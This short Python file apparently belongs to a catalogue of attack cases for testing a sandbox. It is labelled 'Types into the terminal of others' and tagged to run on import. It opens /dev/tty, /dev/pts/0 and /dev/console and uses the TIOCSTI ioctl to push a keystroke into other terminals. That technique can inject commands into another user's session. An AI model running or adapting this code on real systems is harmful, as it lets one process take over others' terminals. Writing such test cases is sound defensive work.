# /// attack
# title = "Types into the terminal of others"
# moments = ["import"]
# ///
import fcntl
import os
import termios


def attack():
    for path in ("/dev/tty", "/dev/pts/0", "/dev/console"):
        descriptor = os.open(path, os.O_RDWR)
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
    return "typed"
